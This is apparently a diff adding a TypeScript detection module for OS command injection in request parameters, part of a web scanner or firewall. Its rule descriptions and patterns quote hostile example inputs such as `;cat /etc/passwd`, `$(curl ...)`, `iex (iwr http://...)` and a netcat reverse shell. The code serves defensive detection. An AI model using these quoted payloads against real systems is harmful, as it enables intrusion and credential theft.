@@ -1,0 +1,206 @@
+/**
+ * The `shell` family: operating-system command injection in a parameter.
+ *
+ * A value is read as a shell would read it (after `deobfuscateShell`), cut into simple commands, and
+ * judged by structure: a separator or substitution followed by a command word and an argument shaped
+ * like a command's. A command word alone is not enough when it is also English ("rock & roll; cat
+ * lovers" passes), and prose rarely has the shapes that are: `;id`, `|wget http://`, `$(whoami)`.
+ *
+ * @internal
+ */
+import { type DetectionFamily, type FamilyFinding, findingOf, type RuleInfo, type ScanContext } from "../contract.js"
+import { type ArgumentShape, forEachCommand, type SimpleCommand } from "./commandLine.js"
+import { ATTACK_COMMANDS, INTERPRETERS, POWERSHELL_WORDS, RARE_COMMANDS } from "./commands.js"
+import { deobfuscateShell } from "./normalize.js"
+
+const rule = (id: string, paranoia: RuleInfo["paranoia"], score: number, description: string): RuleInfo => ({
+  id,
+  category: "cmd_injection",
+  paranoia,
+  score,
+  description
+})
+
+export const SHELL_RULES = {
+  chained: rule(
+    "shell-001",
+    1,
+    5,
+    "A command separator (`;` `|` `&` `&&` `||` newline) followed by a known command and an argument shaped like one (option, path, URL, host, redirection): `;cat /etc/passwd`, `| ping -n 30 127.0.0.1`"
+  ),
+  chainedRare: rule(
+    "shell-002",
+    1,
+    5,
+    "A separator followed by a command name that is not an English word (`whoami`, `ifconfig`, `id`), ending the value or followed by another separator (`;id;`, `| sh`), or a reconnaissance or download command with any argument (`& netsh firewall ...`)"
+  ),
+  substitution: rule(
+    "shell-003",
+    1,
+    5,
+    "Command substitution, `$(...)` or backticks, around a known command: `` `uname -a` ``, `$(curl ...)`"
+  ),
+  shellshock: rule("shell-004", 1, 5, "A Bash function definition `() {` starting a value (Shellshock, CVE-2014-6271)"),
+  devTcp: rule("shell-005", 1, 5, "A redirection to `/dev/tcp/` or `/dev/udp/`: a reverse shell"),
+  qualified: rule(
+    "shell-006",
+    1,
+    5,
+    "A known command written with its system directory: `/usr/bin/id`, `/bin/sh`, `c:\\windows\\system32\\cmd.exe`"
+  ),
+  globbed: rule("shell-007", 1, 5, "A command or system path written with glob wildcards: `/???/??t`, `/bin/c?t /et*/pa??wd`"),
+  commandLine: rule(
+    "shell-008",
+    1,
+    5,
+    "A value that is a command line: a command name that is not an English word and an argument shaped like one (`nc -e /bin/sh 10.0.0.1 4444`, `ls -la /`)"
+  ),
+  commonCommandLine: rule(
+    "shell-009",
+    1,
+    3,
+    "A value that starts like a command line with a command that is also a word (`cat /etc/passwd`, `find / -name x`); needs another signal at level 1"
+  ),
+  powershell: rule(
+    "shell-010",
+    1,
+    5,
+    "A PowerShell cmdlet that downloads or runs code, with arguments: `iex (iwr http://...)`, `Invoke-WebRequest http://...`"
+  ),
+  cmdFor: rule("shell-011", 1, 5, "A cmd.exe `for /f %i in (...) do` loop"),
+  ssi: rule("shell-012", 1, 5, "A server-side include directive: `<!--#exec cmd=...-->`, `<!--#include virtual=...-->`"),
+  binaryPath: rule(
+    "shell-014",
+    1,
+    5,
+    "Any program under `/bin`, `/sbin`, `/usr/bin` or `/usr/local/bin` starting a word outside the request path: `/bin/busybox`, `/usr/sbin/xyz`"
+  ),
+  alias: rule("shell-013", 1, 5, "A shell alias definition, `alias name=command`, used to hide a command name"),
+  chainedRareWord: rule(
+    "shell-020",
+    2,
+    5,
+    "A separator followed by a command name that is not an English word and any argument: `| net view`, `; grep root`"
+  ),
+  substitutionSyntax: rule(
+    "shell-021",
+    2,
+    5,
+    "Any shell substitution syntax: `$(...)`, `${...}`, `<(...)`, `>(...)`"
+  ),
+  lone: rule("shell-022", 2, 5, "A value that is only a command name that is not an English word: `whoami`, `ifconfig`"),
+  commonCommandLine2: rule(
+    "shell-023",
+    2,
+    2,
+    "At level 2 a value that starts like a command line with a common command is refused by itself (adds to shell-009)"
+  ),
+  unknownQualified: rule("shell-024", 2, 5, "Any program under a system binary directory, also relative or in the request path: `bin/ansible`"),
+  chainedCommonWord: rule(
+    "shell-030",
+    3,
+    5,
+    "A separator followed by any known command, even one that is an English word, with any argument: `; time who`, `|vi (x`"
+  )
+} as const
+
+/** Arguments a command line has and prose does not. */
+const STRONG_ARGUMENTS: ReadonlySet<ArgumentShape> = new Set(["option", "path", "url", "dotted", "redirect", "variable", "glob"])
+
+/** Commands whose usual argument is a number: `sleep 5`, `ping 10.0.0.1`, `kill 1`. */
+const NUMERIC_COMMANDS = new Set(["sleep", "usleep", "ping", "ping6", "timeout", "kill", "head", "tail", "nc", "ncat"])
+
+const strongArgument = (command: SimpleCommand): boolean =>
+  STRONG_ARGUMENTS.has(command.argument) || (command.argument === "number" && NUMERIC_COMMANDS.has(command.name))
+
+const endsCommand = (command: SimpleCommand): boolean => command.argument === "end"
+
+const SHELLSHOCK = /^\s{0,16}\(\s{0,8}\)\s{0,8}\{|\(\s{0,8}\)\s{0,8}\{\s{0,8}:\s{0,8};/
+const SSI = /<!--\s{0,8}#\s{0,8}(?:exec|include|echo|printenv|config|set|fsize|flastmod)\b/
+const ALIAS = /(?:^|[;&|\n`(]\s{0,8})alias\s{1,8}(?:-[a-z+]{1,8}\s{1,8}){0,3}[a-z0-9_-]{1,32}=\S/
+const CMD_FOR = /\bfor\s{1,8}(?:\/[a-z]\s{1,8}(?:[^\s%]{1,64}\s{1,8})?)?%%?[a-z][a-z0-9_]{0,30}\s{1,8}in\s{0,8}\(/
+const SUBSTITUTION_SYNTAX = /\$\{[^}\s]{1,64}\}|\$\([^)\n]{1,64}\)|[<>]\([^)\n]{1,64}\)/
+const SYSTEM_PATH = /(?:^|[\s=:,;|&(`])(?:\/usr(?:\/local)?)?\/s?bin\/[a-z0-9_+-]{1,32}/
+const RELATIVE_SYSTEM_PATH = /(?:^|[\s=:,;|&(`])s?bin\/[a-z][a-z0-9_+-]{1,31}/
+const GLOB_PATH = /(?:^|[^a-z0-9])\/[a-z?*[\]]{0,8}[?*][a-z?*[\]]{0,8}\/[a-z0-9?*[\]._-]{0,16}[?*[]|\/(?:etc|bin|usr|proc|dev|tmp|var)\/[a-z0-9._-]{0,16}[?*[][a-z0-9?*[\]._-]{0,16}/
+const POWERSHELL_CALL = /(?:^|[^a-z0-9-])([a-z]{3,9}(?:-[a-z]{3,20})?)(?:\s{0,4}\(|\s{1,4}(?:-[a-z]|https?:|\$|\(|[a-z]:\\|\\\\))/g
+
+const CHARS_OF_INTEREST = /[;|&\n`$(){}<>/\\*?=%]| -[a-z]/
+
+const chainedFinding = (command: SimpleCommand, paranoia: number): RuleInfo | undefined => {
+  if (command.opener === "start") return undefined
+  const strong = strongArgument(command)
+  if (command.opener === "substitution" && (command.rare || (command.common && strong))) return SHELL_RULES.substitution
+  if ((command.rare || command.common) && strong) return SHELL_RULES.chained
+  if (command.rare && (endsCommand(command) || ATTACK_COMMANDS.has(command.name))) return SHELL_RULES.chainedRare
+  if (paranoia >= 2 && command.rare) return SHELL_RULES.chainedRareWord
+  if (paranoia >= 3 && command.common && command.opener === "separator") return SHELL_RULES.chainedCommonWord
+  return undefined
+}
+
+const startFindings = (command: SimpleCommand, paranoia: number): ReadonlyArray<RuleInfo> => {
+  if (command.opener !== "start") return []
+  const strong = strongArgument(command) && command.argument !== "dotted" && !command.endsInWord
+  const interpreted = INTERPRETERS.has(command.name) && command.argument === "option"
+  const chainedOn = command.rare && command.argument === "end" && !command.alone
+  if (command.rare && (strong || interpreted || chainedOn || (command.prefixed && command.argument !== "end"))) {
+    return [SHELL_RULES.commandLine]
+  }
+  if (command.common && strong) {
+    return paranoia >= 2 ? [SHELL_RULES.commonCommandLine, SHELL_RULES.commonCommandLine2] : [SHELL_RULES.commonCommandLine]
+  }
+  if (paranoia >= 2 && command.rare && command.alone && command.name.length > 2) return [SHELL_RULES.lone]
+  if (paranoia >= 3 && command.prefixed) return [SHELL_RULES.chainedCommonWord]
+  return []
+}
+
+const scan = (value: string, context: ScanContext): ReadonlyArray<FamilyFinding> => {
+  const paranoia = context.paranoia
+  const fired = new Map<string, FamilyFinding>()
+  const fire = (found: RuleInfo, message: string) => {
+    if (found.paranoia <= paranoia && !fired.has(found.id)) fired.set(found.id, findingOf(found, message))
+  }
+  const text = deobfuscateShell(value)
+  forEachCommand(text, (command) => {
+    const chained = chainedFinding(command, paranoia)
+    if (chained !== undefined) fire(chained, `command after a separator: ${command.text}`)
+    for (const found of startFindings(command, paranoia)) fire(found, `command line: ${command.text}`)
+    if (command.qualified && (command.rare || command.common)) fire(SHELL_RULES.qualified, `system command: ${command.text}`)
+    if (command.globbed) fire(SHELL_RULES.globbed, `globbed command: ${command.text}`)
+  })
+  if (SHELLSHOCK.test(value)) fire(SHELL_RULES.shellshock, "bash function definition")
+  if (text.includes("/dev/tcp/") || text.includes("/dev/udp/")) fire(SHELL_RULES.devTcp, "redirection to /dev/tcp")
+  if (text.includes("<!--")) {
+    const ssi = SSI.exec(text)
+    if (ssi !== null) fire(SHELL_RULES.ssi, `server-side include: ${ssi[0]}`)
+  }
+  if (text.includes("alias") && ALIAS.test(text)) fire(SHELL_RULES.alias, "alias definition")
+  if (text.includes("%") && text.includes("for") && CMD_FOR.test(text)) fire(SHELL_RULES.cmdFor, "cmd.exe for loop")
+  const glob = GLOB_PATH.exec(text)
+  if (glob !== null) fire(SHELL_RULES.globbed, `globbed path: ${glob[0]}`)
+  for (const match of text.matchAll(POWERSHELL_CALL)) {
+    if (POWERSHELL_WORDS.has(match[1] ?? "")) {
+      fire(SHELL_RULES.powershell, `powershell: ${match[0].trim()}`)
+      break
+    }
+  }
+  if (context.location !== "path" && text.includes("bin/")) {
+    const systemPath = SYSTEM_PATH.exec(text)
+    if (systemPath !== null) fire(SHELL_RULES.binaryPath, `system binary: ${systemPath[0].trim()}`)
+  }
+  if (paranoia >= 2) {
+    const substitution = value.includes(")") || value.includes("}") ? SUBSTITUTION_SYNTAX.exec(value) : null
+    if (substitution !== null) fire(SHELL_RULES.substitutionSyntax, `substitution: ${substitution[0]}`)
+    const systemPath = SYSTEM_PATH.exec(text) ?? RELATIVE_SYSTEM_PATH.exec(text)
+    if (systemPath !== null) fire(SHELL_RULES.unknownQualified, `system path: ${systemPath[0].trim()}`)
+  }
+  return [...fired.values()]
+}
+
+export const family: DetectionFamily = {
+  name: "shell",
+  rules: Object.values(SHELL_RULES),
+  mayMatch: (value) =>
+    CHARS_OF_INTEREST.test(value) || (value.length <= 16 && RARE_COMMANDS.has(value.toLowerCase())),
+  scan
+}
